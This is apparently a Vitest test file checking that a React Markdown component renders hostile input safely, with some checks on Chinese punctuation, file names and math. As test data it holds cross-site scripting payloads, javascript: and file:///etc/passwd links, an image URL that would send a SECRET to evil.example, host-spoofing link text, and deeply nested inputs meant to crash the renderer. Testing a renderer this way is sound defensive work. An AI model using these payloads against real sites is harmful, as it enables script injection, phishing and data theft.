// @vitest-environment happy-dom
import { cleanup, render } from "@testing-library/react";
import { afterEach, expect, test } from "vitest";
import { Markdown } from "./markdown.tsx";

afterEach(cleanup);

function draw(text: string): HTMLElement {
	return render(<Markdown text={text} />).container;
}

test("[PG23] raw HTML is shown as text and nothing of it becomes an element", () => {
	const page = draw('<script>alert(1)</script>\n\n<img src=x onerror="alert(1)"> <svg onload=alert(1)> <iframe src="//evil"></iframe>');
	expect(page.querySelector("script, img, svg, iframe")).toBeNull();
	expect(page.textContent).toContain('<img src=x onerror="alert(1)">');
});

test.each([
	"javascript:alert(1)",
	"JaVaScRiPt:alert(1)",
	"data:text/html,<script>",
	"vbscript:x",
	"file:///etc/passwd",
	"java\nscript:alert(1)",
	"//evil.example/x",
])("[PG23] a link to %s is no link", (href) => {
	expect(draw(`[press](<${href}>)`).querySelector("a")).toBeNull();
});

test("[PG24] a link shows the host it leads to and tells it nothing", () => {
	const link = draw("[your bank](https://evil.example/login)").querySelector("a");
	expect(link?.textContent).toBe("your bankevil.example");
	expect(link?.getAttribute("rel")).toContain("noreferrer");
	expect(link?.getAttribute("target")).toBe("_blank");
});

test("[PG24] a text that only contains the host, or hides it behind a name, does not stand for it", () => {
	const said = (text: string, href: string) => draw(`[${text}](${href})`).querySelector("a")?.textContent;
	expect(said("https://bank.example/?to=evil.example", "https://evil.example/")).toMatch(/evil\.example$/);
	expect(said("https://bank.example/?to=evil.example", "https://evil.example/")).not.toBe("https://bank.example/?to=evil.example");
	expect(said("https://bank.example@evil.example", "https://evil.example/")).toBe("https://bank.example@evil.exampleevil.example");
	expect(said("evil.example", "https://evil.example/x")).toBe("evil.example");
	expect(said("https://evil.example/x", "https://evil.example/x")).toBe("https://evil.example/x");
});

test("[PG25] pictures are never fetched: each becomes a chip that names the host", () => {
	const page = draw(
		"![a](https://evil.example/?q=SECRET) ![b][r]\n\n[r]: https://evil.example/2.png\n\n![c](data:image/svg+xml,x) ![d](/local.png)",
	);
	expect(page.querySelector("img, source, picture, link")).toBeNull();
	expect(page.textContent).toContain("evil.example");
});

test("[PG26] an address in plain text ends before Chinese punctuation", () => {
	const page = draw("請看 https://example.com/a。然後（https://example.com/b）與「https://example.com/c」，完。");
	expect([...page.querySelectorAll("a")].map((link) => link.getAttribute("href"))).toEqual([
		"https://example.com/a",
		"https://example.com/b",
		"https://example.com/c",
	]);
});

test("[PG26] emphasis beside Chinese punctuation works", () => {
	expect(draw("**注意：**這是重點").querySelector("strong")?.textContent).toBe("注意：");
});

test("[PG26] file names are not taken for hosts", () => {
	expect(draw("see README.md and index.ts").querySelector("a")).toBeNull();
});

test("[PG27] money is not a formula, a formula is", () => {
	expect(draw("It costs $5 and $10.").querySelector(".md-math")).toBeNull();
	expect(draw("Euler: $e^{i\\pi} = -1$.").querySelector(".md-math")).not.toBeNull();
	expect(draw("$$\na^2\n$$").querySelector(".md-math-block")).not.toBeNull();
});

test("[PG23] hostile nesting and huge tables are drawn without failing", () => {
	draw(">".repeat(5000));
	draw("- ".repeat(3000));
	draw(`${"*a **b ".repeat(2000)}`);
	draw(`|${"a|".repeat(500)}\n|${"-|".repeat(500)}\n|${"b|".repeat(500)}`);
	draw("[".repeat(5000));
	draw(`$${"\\frac{".repeat(2000)}$`);
});
